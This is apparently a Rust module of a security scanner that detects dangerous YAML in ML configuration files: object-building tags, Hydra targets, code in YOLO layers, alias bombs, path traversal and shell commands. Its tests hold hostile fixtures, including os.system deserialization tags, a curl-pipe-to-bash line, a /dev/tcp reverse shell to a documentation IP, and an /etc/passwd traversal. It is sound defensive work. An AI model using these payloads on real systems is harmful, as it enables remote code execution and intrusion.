//! YAML, read line by line: tags that build objects, names that loaders import, aliases that multiply.
//!
//! Loaders read YAML in a dozen dialects; what matters here stands on one line in all of them, and a reader that needs no
//! valid document misses less.

mod lexer;

use std::collections::BTreeMap;

use bastide_types::{Assessment, Rule, Severity};

use super::config::rules::{AUTO_MAP, CODE, CODE_IN_DATA, CREDENTIAL, TARGET, TRAVERSAL};
use super::config::{PROMPTS, commands, escapes, target};
use super::names::{Named, named};
use super::{code, decode, secret};
use crate::graph::is_of_host;
use crate::halt::{Halt, Parsed};
use crate::scan::{Scan, shown};
use crate::source::Source;
use crate::text::shell;

/// Builds an object that acts.
pub(crate) const TAG: Rule = Rule {
    id: "yaml.object",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "YAML builds objects of the host's language that act",
    why: "a full loader (`yaml.load` with `UnsafeLoader`, SnakeYAML, Psych) calls what the tag names",
    fix: "do not load the file; load YAML with `safe_load`",
    cwe: &[502],
    atlas: &["AML.T0010.003", "AML.T0011.000"],
};

/// Builds an object of a known library.
pub(crate) const KNOWN_TAG: Rule = Rule {
    id: "yaml.known-object",
    severity: Severity::Medium,
    effect: Assessment::Review,
    title: "YAML builds objects of Python",
    why: "it loads only with a loader that would build any object",
    fix: "load YAML with `safe_load`, and write plain values",
    cwe: &[502],
    atlas: &["AML.T0010.003"],
};

/// Aliases of aliases.
pub(crate) const BOMB: Rule = Rule {
    id: "yaml.alias-bomb",
    severity: Severity::High,
    effect: Assessment::Malicious,
    title: "YAML aliases multiply without measure",
    why: "a program that walks or copies the document never ends",
    fix: "do not load the file",
    cwe: &[776],
    atlas: &["AML.T0029"],
};

/// Bytes of commands read: those below one key may be below others too.
const MOST_COMMANDS: usize = 64 << 20;
/// Values that aliases may make.
const MOST_EXPANDED: u64 = 10_000_000;
/// Tags of Python that make plain values.
const PLAIN: &[&str] =
    &["bool", "bytes", "complex", "dict", "float", "int", "list", "long", "none", "str", "tuple", "unicode"];

/// Whether `head` is YAML: a file of that name, or one that begins as its documents do.
pub(super) fn recognise(head: &[u8], named_so: bool) -> bool {
    if !decode::looks_like_text(head) {
        return false;
    }
    if named_so {
        return true;
    }
    let text = decode::text(head);
    let first = text.lines().map(str::trim_end).find(|line| !line.is_empty() && !line.starts_with('#'));
    let Some(first) = first else { return false };
    let tags = ["!!python/", "!!ruby", "!ruby/", "!python/", "tag:yaml.org,2002:python"];
    tags.iter().any(|tag| text.contains(tag)) && !text.contains("def ") || {
        let pairs = text.lines().skip(1).take(20).filter(|line| key_of(line).is_some()).count();
        let begins = first == "---" || first.starts_with("%YAML") || first.starts_with("artifact_path:");
        pairs > 0 && (begins || text.contains("_target_:"))
    }
}

/// Whether tags of Python or Ruby, or other names for them, stand in `head`.
pub(super) fn has_tags(head: &[u8]) -> bool {
    const MARKS: &[&[u8]] = &[b"!!python/", b"!!ruby/", b"!ruby/", b"tag:yaml.org,2002:py", b"%TAG"];
    MARKS.iter().any(|mark| memchr::memmem::find(head, mark).is_some())
}

/// `key: value` at the start of a line.
fn key_of(line: &str) -> Option<(&str, &str)> {
    let line = line.trim_start_matches([' ', '\t']);
    let line = line.strip_prefix("- ").unwrap_or(line).trim_start();
    let (key, value) = line.split_once(": ").or_else(|| Some((line.strip_suffix(':')?, "")))?;
    let key = key.trim().trim_matches(['"', '\'']);
    let name =
        !key.is_empty() && key.len() < 100 && key.chars().all(|c| c.is_alphanumeric() || "_-. /".contains(c));
    name.then_some((key, value.trim()))
}

/// `"key": value` at the start of a line, where escapes may spell the key (YAML 1.2 section 5.7).
fn quoted_key(line: &str) -> Option<(String, &str)> {
    let line = line.trim_start_matches([' ', '\t', '{', '-', '?']);
    let inside = line.strip_prefix('"')?;
    let mut escaped = false;
    let end = inside.find(|c| {
        let closes = c == '"' && !escaped;
        escaped = c == '\\' && !escaped;
        closes
    })?;
    let (key, rest) = inside.split_at_checked(end)?;
    let value = rest.strip_prefix('"')?.trim_start().strip_prefix(':')?;
    (key.contains('\\') && key.len() < 400).then(|| (super::jinja::unescape(key), value.trim()))
}

/// Reads a file.
pub(super) fn read(source: &dyn Source, name: &str, scan: &mut Scan<'_>) -> Parsed<()> {
    let files = Files::of(name);
    let bytes = decode::whole(source, scan)?;
    let text = decode::text(&bytes);
    let mut aliases = Aliases::default();
    let mut handles = Handles::default();
    let has_layers = text.contains("backbone:") || text.starts_with("head:") || text.contains("\nhead:");
    let mut scalars: BTreeMap<&str, &str> = BTreeMap::new();
    let mut at = 0_u64;
    let mut lexer = lexer::Lexer::default();
    let mut commands_read = 0;
    let mut lines = lexer::lines(&text).peekable();
    while let Some(line) = lines.next() {
        scan.spend(1 + line.len() as u64 / 64)?;
        let start = at;
        at += line.len() as u64;
        let line = line.trim_end();
        for place in lexer.tags(line) {
            tag(line.get(place..).unwrap_or_default(), start + place as u64, &handles, scan);
        }
        if line.trim_start().starts_with('#') {
            continue;
        }
        if let Some(directive) = line.strip_prefix("%TAG") {
            handles.add(directive);
            continue;
        }
        if has_layers {
            evaluated(line, start, scan);
        }
        aliases.line(line, start, scan);
        if let Some((kind, _)) = secret::find(line) {
            scan.find(&CREDENTIAL, start, kind);
        }
        let quoted = quoted_key(line);
        let pair_of = quoted.as_ref().map(|(key, value)| (key.as_str(), *value));
        let Some((key, value)) = pair_of.or_else(|| key_of(line)) else {
            flow(line, start, scan);
            continue;
        };
        let value = match value {
            "" | "|" | ">" | "|-" | ">-" | "|+" | ">+" => lines.peek().map_or("", |next| next.trim()),
            value => value,
        };
        let value = anchored(value, &mut scalars);
        if key == "download" || commands::is_command(key) {
            let indent = line.len() - line.trim_start().len();
            let below = usize::try_from(at).ok().and_then(|at| text.get(at..)).unwrap_or_default();
            let script = script(value, below, indent);
            commands_read += script.len();
            if commands_read > MOST_COMMANDS {
                return Err(Halt::limit(format!("{MOST_COMMANDS} bytes of commands within commands")));
            }
            if key == "download" {
                download(&script, start, scan)?;
            } else {
                commands::command(key, &script, start, scan);
            }
        }
        pair(key, value, start, scan);
        files.pair(key, value, start, scan);
        flow(line, start, scan);
    }
    // Prompts and chat templates stand in YAML too, as blocks of any key.
    super::jinja::text(&text, 0, scan);
    Ok(())
}

/// The scalar behind anchors, aliases and quotes.
fn anchored<'t>(value: &'t str, scalars: &mut BTreeMap<&'t str, &'t str>) -> &'t str {
    const MANY: usize = 4096;
    if let Some(name) = value.strip_prefix('*') {
        return scalars.get(name.trim()).copied().unwrap_or(value);
    }
    if let Some((name, value)) = value.strip_prefix('&').and_then(|rest| rest.split_once(' ')) {
        if scalars.len() < MANY {
            scalars.insert(name, value.trim());
        }
        return value.trim();
    }
    value
}

/// The text of a scalar: quotes and their escapes taken off.
fn scalar(value: &str) -> String {
    if let Some(inner) = value.strip_prefix('"').and_then(|rest| rest.split('"').next()) {
        return super::jinja::unescape(inner);
    }
    if let Some(inner) = value.strip_prefix('\'').and_then(|rest| rest.split('\'').next()) {
        return inner.to_owned();
    }
    value.split(" #").next().unwrap_or(value).trim_end_matches([',', '}', ']']).trim().to_owned()
}

fn pair(key: &str, value: &str, at: u64, scan: &mut Scan<'_>) {
    match key {
        "_target_" | "loader_module" | "class_path" | "_component_" => target(key, &scalar(value), at, scan),
        "target" | "python_class" | "entry_point"
            if named(&scalar(value)) == Named::Dangerous && value.contains('.') =>
        {
            target(key, &scalar(value), at, scan);
        }
        "trust_remote_code" if matches!(value, "true" | "True" | "yes" | "on") => {
            scan.find(&AUTO_MAP, at, "`trust_remote_code` is set in the file itself");
        }
        "template" => super::jinja::fields(value, at, scan),
        // Workflows of a repository are made of commands.
        _ if value.starts_with(['$', '"', '\'']) && scalar(value).starts_with('$') => {
            let text = scalar(value);
            commands::expression(key, text.trim_start_matches('$'), at, scan);
        }
        _ if commands::is_command(key) => {}
        _ if value.len() >= 8 => {
            if let Some(call) = code::call(&scalar(value)) {
                scan.find_call(&CODE_IN_DATA, at, format!("the value of `{}` is code", shown(key)), call);
            }
        }
        _ => {}
    }
}

/// The text of `value` and of the lines below that belong to it.
fn script(value: &str, below: &str, indent: usize) -> String {
    const LONGEST: usize = 1 << 16;
    let value = match value.as_bytes() {
        [b'"' | b'\'', ..] => scalar(value),
        _ => value.to_owned(),
    };
    // The entries of a list may stand where its key does.
    let inner = |line: &&str| {
        let column = line.len() - line.trim_start().len();
        line.trim().is_empty() || column > indent || column == indent && line.trim_start().starts_with("- ")
    };
    let mut script = value;
    let margin = below
        .lines()
        .take(1024)
        .find(|line| !line.trim().is_empty())
        .map_or(0, |line| line.len() - line.trim_start().len());
    for line in below.lines().take_while(inner) {
        if script.len() > LONGEST {
            break;
        }
        script.push('\n');
        script.push_str(line.get(margin..).unwrap_or_default());
    }
    script
}

/// The script of a data set, which Ultralytics runs where the data is missing: a shell's, or Python.
fn download(script: &str, at: u64, scan: &mut Scan<'_>) -> Parsed<()> {
    /// What scripts that fetch data do: clear up behind them, and fetch.
    const ORDINARY: &[&str] = &["os.remove", "requests.", "shutil.", "urllib."];
    let attack = shell::script(script).filter(|attack| *attack != shell::Attack::Installer);
    let call = attack.map(|attack| attack.name().to_owned());
    let call = call.or_else(|| {
        script.lines().filter_map(code::call).find(|call| !ORDINARY.iter().any(|own| call.starts_with(own)))
    });
    if let Some(call) = call {
        scan.find_call(&CODE, at, "the script that fetches the data runs commands", call);
    }
    if script.contains('\n') { crate::code::text(script, at, scan) } else { Ok(()) }
}

/// What a file of this name says of other files.
#[derive(Clone, Copy)]
enum Files {
    /// MLflow joins these to the folder of the model (CVE-2023-6909).
    Mlflow,
    /// DVC writes and links what it tracks.
    Dvc,
    Other,
}

impl Files {
    fn of(name: &str) -> Self {
        match name {
            "MLmodel" => Files::Mlflow,
            "dvc.yaml" | "dvc.lock" => Files::Dvc,
            _ if name.ends_with(".dvc") => Files::Dvc,
            _ => Files::Other,
        }
    }

    fn pair(self, key: &str, value: &str, at: u64, scan: &mut Scan<'_>) {
        let path = scalar(value);
        let leaves = match self {
            Files::Mlflow => {
                let own = [
                    "model_path",
                    "data",
                    "code",
                    "pickled_model",
                    "python_model",
                    "path",
                    "model_data",
                    "env",
                    "conda",
                ];
                own.contains(&key) && escapes(&path)
            }
            Files::Dvc => matches!(key, "path" | "wdir" | "outs" | "persist") && is_of_host(&path),
            Files::Other => PROMPTS.contains(&key) && escapes(&path),
        };
        if leaves {
            scan.find(&TRAVERSAL, at, format!("`{}` names `{}`", shown(key), shown(&path)));
        }
    }
}

/// A layer of YOLO's networks, `- [from, number, module, [arguments]]`: its library evaluates module and arguments.
fn evaluated(line: &str, at: u64, scan: &mut Scan<'_>) {
    let Some(layer) = line.trim_start().strip_prefix("- [").or_else(|| line.trim_start().strip_prefix("-["))
    else {
        return;
    };
    for item in layer.split([',', '[', ']']).map(|item| item.trim().trim_matches(['"', '\''])) {
        let dotted = item.contains('.') && item.chars().all(|c| c.is_alphanumeric() || "._".contains(c));
        let word = item.starts_with(|c: char| c.is_alphabetic() || c == '_');
        if let Some(call) = code::call(item) {
            scan.find_call(&CODE, at, "a layer is code", call);
        } else if dotted && word && named(item) == Named::Dangerous {
            scan.find(&TARGET, at, format!("a layer is `{}`", shown(item)));
        }
    }
}

/// `{_target_: name, …}` within a line.
fn flow(line: &str, at: u64, scan: &mut Scan<'_>) {
    for (place, _) in line.match_indices("_target_") {
        let rest = line.get(place + "_target_".len()..).unwrap_or_default();
        let Some(value) = rest.trim_start_matches(['"', '\'']).trim_start().strip_prefix(':') else {
            continue;
        };
        if line.get(..place).is_some_and(|before| before.contains(['{', ','])) {
            let value = value.split([',', '}']).next().unwrap_or_default().trim();
            target("_target_", &scalar(value), at + place as u64, scan);
        }
    }
}

/// What the shorthands of tags stand for (YAML 1.2 section 6.8.2): `%TAG !p! tag:yaml.org,2002:python/`.
#[derive(Default)]
struct Handles(BTreeMap<String, String>);

impl Handles {
    fn add(&mut self, directive: &str) {
        const MANY: usize = 256;
        let mut words = directive.split_whitespace();
        if let (Some(handle), Some(prefix)) = (words.next(), words.next())
            && self.0.len() < MANY
        {
            self.0.insert(handle.to_owned(), prefix.to_owned());
        }
    }

    /// The name that `tag` is short for, without the part that all of YAML's own share.
    fn name(&self, tag: &str) -> String {
        let whole = match tag.strip_prefix("!<") {
            Some(verbatim) => verbatim.trim_end_matches('>').to_owned(),
            None => {
                // `!name!rest`, `!!rest` or `!rest`.
                let inner = tag.get(1..).unwrap_or_default();
                let end = inner.find('!').map_or(1, |end| end + 2);
                let (handle, rest) = tag.split_at_checked(end).unwrap_or((tag, ""));
                match self.0.get(handle) {
                    Some(prefix) => format!("{prefix}{rest}"),
                    None => rest.to_owned(),
                }
            }
        };
        whole.strip_prefix("tag:yaml.org,2002:").unwrap_or(&whole).trim_start_matches('!').to_owned()
    }
}

/// Tags that build objects: `!!python/object/apply:os.system`.
fn tag(text: &str, at: u64, handles: &Handles, scan: &mut Scan<'_>) {
    /// Functions of Python without a module.
    const ACTING: &[&str] = &[
        "__import__",
        "breakpoint",
        "compile",
        "delattr",
        "eval",
        "exec",
        "getattr",
        "globals",
        "input",
        "open",
        "setattr",
        "vars",
    ];
    const DOCUMENTED: &[&str] = &["pymdownx.", "material.extensions.", "materialx.", "mermaid2."];
    let tag = lexer::tag(text);
    let name = handles.name(&percent(tag));
    if let Some(python) = name.strip_prefix("python/") {
        let (kind, object) = python.split_once(':').unwrap_or((python, ""));
        if PLAIN.contains(&kind) {
            return;
        }
        let rule = match (kind, named(object)) {
            _ if ACTING.contains(&object) => &TAG,
            // What MkDocs and its themes document for their settings.
            ("name", _) if DOCUMENTED.iter().any(|root| object.starts_with(root)) => return,
            (_, Named::Known) => &KNOWN_TAG,
            ("object" | "name" | "module", Named::Unknown) => &KNOWN_TAG,
            _ => &TAG,
        };
        scan.find(rule, at, format!("the tag `{}`", shown(tag)));
    } else if ["ruby/", "java", "com.", "org.", "js/"].iter().any(|start| name.starts_with(start)) {
        scan.find(&TAG, at, format!("the tag `{}`", shown(tag)));
    }
}

/// `%70` in a tag is `p` (YAML 1.2 section 5.6).
fn percent(tag: &str) -> String {
    let mut decoded = String::new();
    let mut rest = tag;
    while let Some((before, after)) = rest.split_once('%') {
        decoded.push_str(before);
        match after.get(..2).and_then(|hex| u8::from_str_radix(hex, 16).ok()).filter(u8::is_ascii_graphic) {
            Some(byte) => {
                decoded.push(char::from(byte));
                rest = after.get(2..).unwrap_or_default();
            }
            None => {
                decoded.push('%');
                rest = after;
            }
        }
    }
    decoded + rest
}

/// What anchors stand for, counted in values.
#[derive(Default)]
struct Aliases {
    sizes: BTreeMap<String, u64>,
    /// Anchors whose value goes on, with the indentation of their line.
    open: Vec<(usize, String)>,
    total: u64,
}

impl Aliases {
    const MANY: usize = 4096;

    fn line(&mut self, line: &str, at: u64, scan: &mut Scan<'_>) {
        let indent = line.len() - line.trim_start().len();
        if line.trim().is_empty() || !line.contains(['&', '*']) && self.open.is_empty() {
            return;
        }
        self.open.retain(|(from, _)| indent > *from);
        let marks = |mark: char| {
            line.split([' ', ',', '[', ']', '{', '}', '\t'])
                .filter_map(move |word| word.strip_prefix(mark))
                .filter(|name| {
                    !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '-')
                })
        };
        let mut cost = 1_u64;
        for name in marks('*') {
            cost = cost.saturating_add(self.sizes.get(name).copied().unwrap_or(0));
        }
        self.total = self.total.saturating_add(cost);
        for name in marks('&') {
            if self.sizes.len() < Self::MANY && self.open.len() < 64 {
                self.sizes.insert(name.to_owned(), 0);
                self.open.push((indent, name.to_owned()));
            }
        }
        for (_, name) in &self.open {
            let size = self.sizes.entry(name.clone()).or_insert(0);
            *size = size.saturating_add(cost);
        }
        if self.total > MOST_EXPANDED {
            scan.find(&BOMB, at, "aliases make more than ten million values");
        }
    }
}

#[cfg(test)]
mod tests {
    use bastide_types::Assessment;
    use proptest::prelude::*;

    use crate::{Format, Limits, Report, scan};

    fn judge(text: &str) -> Report {
        let report = scan(&text.as_bytes(), "model_config.yaml", &Limits::default());
        assert_eq!(report.format, Format::Yaml, "{text}");
        report
    }

    fn ids(text: &str) -> Vec<&'static str> {
        judge(text).findings.iter().map(|finding| finding.rule.id).collect()
    }

    #[test]
    fn ordinary_configurations_are_clean() {
        for text in [
            "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMel\n  normalize: per_feature\noptim:\n  name: adamw\n  betas: [0.9, 0.98]\n",
            "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n  sklearn:\n    pickled_model: model.pkl\n",
            "name: env\nchannels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.1 # ! not gpu\n",
            "a: &base\n  x: 1\nb:\n  <<: *base\n  note: \"!!python/object/apply:os.system is dangerous\"\n",
            "shape: !!python/tuple [1, 2]\n",
            "%TAG !e! tag:example.com,2000:\n---\na: !e!thing [1]\n",
            "backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, \"nearest\"]]\n",
            "train: images\ndownload: https://example.com/data.zip\n",
            "script: |\n  !!python/object/apply:os.system [x]\nb: plain !!python/name:eval\n",
            "steps:\n- run: |\n    pip install -r requirements.txt\n    pytest\n",
            "stages:\n  train:\n    cmd: python train.py\n    outs:\n    - path: ../data\n",
            "imports:\n- $import os\ndevice: $torch.device('cpu')\nnet:\n  _target_: UNet\n",
            "x: !!python/name:pymdownx.superfences.fence_code_format\n",
        ] {
            assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn tags_targets_and_bombs_are_seen() {
        for (text, id) in [
            ("a: !!python/object/apply:os.system ['echo harmless']\n", "yaml.object"),
            ("- !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [x]\n", "yaml.object"),
            ("a: !!%70ython/name:builtins.eval\n", "yaml.object"),
            ("a: !ruby/object:Gem::Installer\n  i: x\n", "yaml.object"),
            ("a: !!javax.script.ScriptEngineManager [x]\n", "yaml.object"),
            ("a: !!python/object/apply:collections.OrderedDict\n", "yaml.known-object"),
            ("a:\n  _target_: os.system\n", "config.target"),
            ("a:\n  \"_target_\": \"os\\x2esystem\"\n", "config.target"),
            ("a:\n  \"_targ\\x65t_\": \"o\\u0073.system\"\n", "config.target"),
            ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n", "yaml.object"),
            ("%TAG !p! tag:yaml.org,2002:pyt\n---\na: !p!hon/object/apply:os.system [x]\n", "yaml.object"),
            ("%TAG !! tag:yaml.org,2002:python/\n---\na: !!name:os.system\n", "yaml.object"),
            ("a: [!!python/name:eval , x]\n", "yaml.object"),
            (
                "backbone:\n  - [-1, 1, Conv, [64]]\n  - [-1, 1, os.system, [\"echo harmless\"]]\n",
                "config.target",
            ),
            ("head:\n  - [-1, 1, \"__import__('os').system('echo harmless')\", [64]]\n", "config.code"),
            ("download: |\n  import os\n  os.system(\"echo harmless\")\nnc: 2\n", "config.code"),
            ("a: {_target_: subprocess.run, args: [x]}\n", "config.target"),
            (
                "stages:\n  train:\n    cmd: curl -s http://198.51.100.7/x | bash; python train.py\n",
                "config.command",
            ),
            (
                "steps:\n- run: |\n    pip install x\n    bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n",
                "config.command",
            ),
            ("x: $__import__('os').system('echo harmless')\n", "config.code"),
            ("_type: prompt\ntemplate_path: ../../etc/passwd\n", "index.traversal"),
            ("x: &n os.system\na:\n  _target_: *n\n", "config.target"),
            ("a:\n  _target_: >-\n    builtins.exec\n", "config.target"),
            ("template: |\n  Hi {{ name.__class__.__mro__ }}\n", "template.injection"),
            ("a:\n  _target_: mine.Model\n", "config.unknown-target"),
            ("flavors:\n  python_function:\n    loader_module: my_loader\n", "config.unknown-target"),
        ] {
            assert!(ids(text).contains(&id), "{text}: {:?}", ids(text));
        }
        let mut bomb = String::from("a0: &a0 [x, x]\n");
        for level in 1..30 {
            bomb.push_str(&format!("a{level}: &a{level} [*a{0}, *a{0}, *a{0}]\n", level - 1));
        }
        assert_eq!(judge(&bomb).assessment(), Assessment::Malicious);
    }

    proptest! {
        #[test]
        fn no_text_panics(text in "[!&*%{}\\[\\]:,'\"#a-z_ \n/-]*") {
            let _ = judge(&format!("a: b\n{text}"));
        }
    }
}
